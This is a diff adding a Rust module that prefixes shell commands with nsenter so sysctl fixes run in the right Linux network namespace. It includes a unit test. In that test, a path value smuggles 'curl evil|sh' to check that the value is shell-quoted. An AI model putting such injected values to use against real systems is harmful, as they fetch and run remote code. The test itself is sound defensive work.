@@ -1,0 +1,70 @@
+// SPDX-License-Identifier: MIT OR Apache-2.0
+//! Where a setting has to be written: sysctls are per network namespace, and a command must be safe to paste here.
+
+use crate::{aggregate::observed::Observed, kernel::rules::Sysctls, outside};
+
+/// One network namespace, seen from the shell that will run the fix.
+pub(crate) struct Place {
+    netns: u32,
+    /// What is in front of a command there; `None`: no way is known.
+    prefix: Option<String>,
+    /// Its settings, as far as they are known.
+    pub(super) sysctls: Sysctls,
+}
+
+impl Place {
+    /// `own`: settings of the namespace that the agent is in; `pid`: a process of `netns`, if one is known.
+    pub(super) fn of(observed: &Observed, own: &Sysctls, netns: u32, pid: Option<u32>) -> Self {
+        let is_own = own.netns.is_none_or(|own| own == netns);
+        let known = observed.spaces.get(&netns);
+        let prefix = match (is_own, known.and_then(|space| space.entrance.as_deref()), pid) {
+            (true, ..) => Some(String::new()),
+            (false, Some(entrance), _) => Some(format!("nsenter --net={} ", outside::shell_word(entrance))),
+            (false, None, Some(pid)) => Some(format!("nsenter -t {pid} -n ")),
+            (false, None, None) => None,
+        };
+        let sysctls = known.map(|space| space.sysctls.clone()).or_else(|| is_own.then(|| own.clone()));
+        Self { netns, prefix, sysctls: sysctls.unwrap_or_default() }
+    }
+
+    /// With a file by which nsenter(1) gets there; `None`: the shell is there already.
+    pub(crate) fn behind(netns: u32, entrance: Option<&str>, sysctls: Sysctls) -> Self {
+        let prefix =
+            entrance.map_or_else(String::new, |entrance| format!("nsenter --net={} ", outside::shell_word(entrance)));
+        Self { netns, prefix: Some(prefix), sysctls }
+    }
+
+    /// A line that does it there; a comment where no way in is known.
+    pub(crate) fn command(&self, command: &str) -> String {
+        match &self.prefix {
+            Some(prefix) => format!("{prefix}{command}"),
+            None => format!("# in network namespace {}: {command}", self.netns),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::aggregate::observed::SpaceFacts;
+
+    #[test]
+    fn own_known_and_unknown() {
+        let own = Sysctls { netns: Some(1), tcp_tw_reuse: Some(2), ..Sysctls::default() };
+        let there = SpaceFacts {
+            entrance: Some("/run/netns/blue".into()),
+            sysctls: Sysctls { tcp_tw_reuse: Some(0), ..Sysctls::default() },
+            ..SpaceFacts::default()
+        };
+        let observed = Observed { spaces: std::sync::Arc::new([(2, there)].into()), ..Observed::default() };
+        let place = |netns, pid| Place::of(&observed, &own, netns, pid);
+        assert_eq!((place(1, None).command("x"), place(1, None).sysctls.tcp_tw_reuse), ("x".into(), Some(2)));
+        assert_eq!(place(2, Some(9)).command("x"), "nsenter --net=/run/netns/blue x");
+        let edited = Place::behind(2, Some("/proc/1/ns/net;curl evil|sh"), Sysctls::default());
+        assert_eq!(edited.command("x"), "nsenter --net='/proc/1/ns/net;curl evil|sh' x");
+        assert_eq!(place(2, None).sysctls.tcp_tw_reuse, Some(0));
+        assert_eq!(place(3, Some(9)).command("x"), "nsenter -t 9 -n x");
+        assert_eq!(place(3, None).command("x"), "# in network namespace 3: x");
+        assert_eq!(place(3, None).sysctls, Sysctls::default());
+    }
+}
